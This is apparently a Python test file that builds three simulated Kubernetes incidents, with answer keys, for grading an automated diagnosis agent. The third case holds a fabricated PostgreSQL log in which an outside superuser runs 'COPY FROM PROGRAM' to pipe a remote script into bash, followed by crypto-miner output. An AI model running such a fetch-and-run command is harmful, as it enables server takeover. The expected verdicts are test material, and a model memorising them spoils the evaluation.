"""Ordinary months: a monthly sweep beside its neighbours, errors that are none, and a database open to strangers."""

from __future__ import annotations

from tests.diagnosis.casemaker.case import Fault, case
from tests.diagnosis.casemaker.cases.fresh_a import NO_METRICS
from tests.diagnosis.casemaker.cases.fresh_p import calls, machines, measured
from tests.diagnosis.casemaker.jobs import busy
from tests.diagnosis.casemaker.logs import L, log, often
from tests.diagnosis.casemaker.network import ingress
from tests.diagnosis.casemaker.platform import nodes, secret
from tests.diagnosis.casemaker.scene import alert, postgres, taken, well
from tests.diagnosis.casemaker.signals import flat, requests, step
from tests.diagnosis.casemaker.templates import container, pod_spec
from tests.diagnosis.casemaker.world import World, days, hours, minutes


@case(
    "monthly-sweep-of-sleeping-accounts-slows-every-login",
    "loyalty-club",
    "2026-06-01T06:41:00",
    title="Logins take seconds; a sweep that runs on the first of the month asks the account service with 64 hands",
    drawn_from="a batch that shares an interactive service, at an hour when it grew into the morning",
    why="The account service has its template of weeks and as many users as ever; what multiplied its requests is the "
    "job of this month, since its first minute. The login page was released half an hour after that.",
    expect=[Fault("CronJob/sleeping-accounts", "capacity", "page_human")],
    acceptable=[
        ("resource_exhaustion", "page_human"),
        ("configuration_error", "page_human"),
        ("capacity", "scale_workload", "Deployment/accounts"),
        ("resource_exhaustion", "scale_workload", "Deployment/accounts"),
        ("capacity", "page_human", "Deployment/accounts"),
    ],
    tolerated=["scale_workload"],
    forbidden=["restart_workload", "rollback_workload", "no_action", "scale_database"],
)
def sweep(w: World) -> None:
    nodes(w, "lc-1", "lc-2", "lc-3", cpu="8")
    secret(w, "postgres-auth", ["POSTGRES_PASSWORD"], age=days(300))
    image, began = "registry.loyalty.example", minutes(41)
    base = postgres(w, "accounts-db")
    accounts = well(w, "accounts", f"{image}/accounts:4.11.0", pods=3, age=days(23), env={"DB_HOST": "accounts-db"})
    login = well(w, "login-web", f"{image}/login-web:77", pods=2, age=minutes(13), before=f"{image}/login-web:76",
                 env={"ACCOUNTS_URL": "http://accounts"})  # fmt: skip
    points = well(w, "points", f"{image}/points:2.0.9", age=days(45), env={"ACCOUNTS_URL": "http://accounts"})
    ingress(w, "club", "club.loyalty.example", [("/login", "login-web", 80), ("/points", "points", 80)])
    args = ("--inactive-months=18", "--workers=64", "--accounts-url=http://accounts")
    spec = pod_spec(container("sweep", f"{image}/sweep:1.3.0", port=0, ready=None, args=args))
    run = busy(w, "sleeping-accounts", spec, ages=[began], schedule="0 6 1 * *")
    told = [f"page {page}/9120 done, 500 accounts checked" for page in (3101, 3102, 3103, 3104)]
    lines = [
        L(began - 6, "info", "sweep 1.3.0: 4560118 accounts in 9120 pages, 64 workers", "sweep.main"),
        *often(9, minutes(12), 1, "info", told, "sweep.pages"),
        *often(47, minutes(12), 5, "warn", ["GET /accounts/{n} took 3.1s, trying on"], "sweep.client"),
    ]
    log(w, run, 0, "python", lines)
    for index in range(3):
        text = [f"GET /accounts/{{n}} 200 {ms}ms ua=club-sweep/1.3" for ms in (2210, 2904, 3120, 2660)]
        text.insert(3, "POST /authenticate 200 3377ms ua=login-web")
        log(w, accounts, index, "logback", often(3, 210, 1, "info", text, "c.l.accounts.Access"))
    for index in range(2):
        late = ["POST /login 200 3512ms", "POST /login 504 accounts did not answer in 4000ms", "GET /login 200 4ms"]
        log(w, login, index, "pino", [L(minutes(12.7), "info", "login-web 77 ready"),
                                      *often(8, minutes(12.5), 1, "info", late)])  # fmt: skip
        log(w, points, index, "zap", often(9, 800, 1, "info", ["GET /points/me 200 in 2.9s", "GET /points/shop 200"]))
    log(w, base, 0, "postgres", often(290, 3300, 9, "log", ["checkpoint starting: time"]))
    requests(w, "login-web", rate=flat(21), errors=step(0.001, 0.11, began), p95=step(0.2, 3.9, began, over=150))
    requests(w, "points", rate=flat(17), errors=step(0.001, 0.02, began), p95=step(0.12, 3.1, began, over=150))
    requests(w, "accounts", rate=step(39, 604, began), errors=flat(0.0006), p95=step(0.05, 3.2, began, over=150))
    measured(w, accounts, step(0.16, 0.99, began), 0.5, step(0.004, 0.66, began))
    measured(w, login, 0.2)
    measured(w, points, 0.15)
    measured(w, base, step(0.1, 0.31, began), 0.5)
    calls(w, "login-web", "accounts", step(0.06, 3.8, began), step(0.0005, 0.11, began))
    calls(w, "points", "accounts", step(0.05, 3.0, began), step(0.0005, 0.02, began))
    calls(w, "accounts", "accounts-db", step(0.004, 0.007, began))
    machines(w, step(0.2, 0.33, began))
    alert(w, "LoginLatencyHigh", minutes(31), "p95 of POST /login is above 2 s", service="login-web")


@case(
    "cancelled-searches-are-written-as-errors-since-a-release",
    "book-catalogue",
    "2026-08-13T19:22:00",
    title="An alert counts log lines with level error; a release writes each search that a browser gave up as one",
    drawn_from="context canceled of search-as-you-type, logged as an error by a new middleware",
    why="Rate, 5xx and latency of all services are what they were before the release; what is new is a line for "
    "requests whose browser had already asked the next letter. Nobody is harmed.",
    expect=[Fault("Deployment/suggest", "no_fault", "no_action")],
    acceptable=[("no_fault", "no_action", "")],
    tolerated=["page_human"],
    forbidden=["restart_workload", "rollback_workload", "scale_workload", "isolate_workload", "switch_traffic"],
)
def cancelled(w: World) -> None:
    nodes(w, "bc-1", "bc-2", "bc-3")
    image, at = "ghcr.io/book-catalogue-example", minutes(49)
    suggest = well(w, "suggest", f"{image}/suggest:1.22.0", pods=3, age=at, before=f"{image}/suggest:1.21.4")
    web = well(w, "catalogue-web", f"{image}/web:530", pods=3, age=days(4), port=3000)
    index_ = well(w, "title-index", f"{image}/title-index:12", age=days(33), talk=True)
    ingress(w, "books", "books.example", [("/", "catalogue-web", 80), ("/api/suggest", "suggest", 80)])
    for index in range(3):
        gone = 'search "{n}" aborted by client: context canceled'
        lines = often(17, at - 30, 1, "error", [gone], "middleware/log.go:61")
        lines += often(14, 900, 1, "info", ["GET /suggest?q=te 200 11ms", "GET /suggest?q=tea 200 9ms"])
        log(w, suggest, index, "zap", [L(at - 9 - 9 * index, "info", "suggest 1.22.0 listening"), *lines])
        log(w, web, index, "pino", often(12, 900, 1, "info", ["GET / 200", "GET /title/{n} 200", "GET /search 200"]))
    for name, rate, p95 in (("suggest", 96, 0.03), ("catalogue-web", 44, 0.18), ("title-index", 97, 0.012)):
        requests(w, name, rate=flat(rate), errors=flat(0.0005), p95=flat(p95))
    for of in (suggest, web, index_):
        measured(w, of, 0.22)
    calls(w, "suggest", "title-index", 0.012)
    machines(w)
    alert(w, "LogErrorRateHigh", minutes(43), "suggest wrote more than 5 error lines a minute for 5 minutes",
          app="suggest", severity="warning")  # fmt: skip


@case(
    "report-database-runs-programs-for-a-stranger",
    "parcel-stats",
    "2026-04-12T04:53:00",
    title="Reports are slow at night; the report database starts shells for a superuser who comes from outside",
    drawn_from="PostgreSQL open to the internet, COPY FROM PROGRAM by a guessed superuser, a miner in its pod",
    why="After hundreds of refused passwords one was right, from an outside address, and at once the server ran "
    "programs fetched from there. The slow reports follow from it; the board's release of the evening is older.",
    expect=[Fault("StatefulSet/report-db", "security_incident", "isolate_workload")],
    tolerated=["page_human"],
    forbidden=["restart_workload", "rollback_workload", "scale_workload", "scale_database", "no_action"],
)
def stranger(w: World) -> None:
    nodes(w, "ps-1", "ps-2")
    secret(w, "postgres-auth", ["POSTGRES_PASSWORD"], age=days(300))
    image, broke = "registry.parcel.example", minutes(36)
    base = postgres(w, "report-db", image="postgres:14.11")
    door = next(o for o in w.objects if o["kind"] == "Service" and o["metadata"]["name"] == "report-db")
    door["spec"] |= {"type": "LoadBalancer", "clusterIP": "10.96.71.8", "externalTrafficPolicy": "Cluster"}
    door["status"] = {"loadBalancer": {"ingress": [{"ip": "192.0.2.61"}]}}
    w.changed(door, days(2.4), "kubectl-edit", {"f:spec": {"f:type": {}}})
    board = well(w, "report-board", f"{image}/board:41", pods=2, age=hours(11), before=f"{image}/board:40",
                 env={"DATABASE_HOST": "report-db"})  # fmt: skip
    loader = well(w, "loader", f"{image}/loader:9", pods=1, age=days(60), env={"DATABASE_HOST": "report-db"})
    refused = ['password authentication failed for user "postgres"', 'password authentication failed for user "admin"']
    fetch = "COPY kpzq FROM PROGRAM 'curl -s http://198.51.100.23/pg.sh | bash';"
    lines = [
        *often(21, broke + 900, broke + 4, "fatal", refused, "postgres@postgres 198.51.100.23"),
        L(broke, "log", "connection authorized: user=postgres database=postgres", "postgres@postgres 198.51.100.23"),
        L(broke - 3, "error", 'table "kpzq" does not exist', "postgres@postgres 198.51.100.23"),
        L(broke - 4, "error", 'program "curl -s http://198.51.100.23/pg.sh | bash" failed'),
        L(broke - 4.1, "detail", "child process exited with exit code 127"),
        L(broke - 4.2, "statement", fetch, "postgres@postgres 198.51.100.23"),
        L(broke - 19, "log", "could not receive data from client: Connection reset by peer"),
        L(
            broke - 21,
            "log",
            "connection authorized: user=postgres database=postgres",
            "postgres@postgres 198.51.100.23",
        ),
    ]
    log(w, base, 0, "postgres", lines)
    output = (
        "bash: line 12: crontab: command not found",
        "bash: line 19: /etc/ld.so.preload: Permission denied",
        " * ABOUT        XMRig/6.18.1 gcc/9.3.0",
        " * POOL #1      pool.minexmr.example:3333 algo rx/0",
    )
    log(w, base, 0, "plain", [L(broke - 24 - n, "", each) for n, each in enumerate(output)])
    log(w, base, 0, "postgres", often(290, broke - 60, 20, "log", ["checkpoint starting: time"]))
    for index in range(2):
        text = ["report {n} rendered in 14.2s", "report {n} rendered in 11.8s", "query took 9211ms: daily_volumes"]
        log(w, board, index, "python", often(31, 1500, 2, "warn", text, "board.render"))
    log(w, loader, 0, "logfmt", often(60, 3000, 5, "info", ["loaded {n} scans in 22s"]))
    alert(w, "ReportRenderingSlow", minutes(27), "median time of a report is above 10 s", severity="warning",
          service="report-board")  # fmt: skip
    taken(w, ("objects", True, ""), ("logs", True, ""), NO_METRICS)
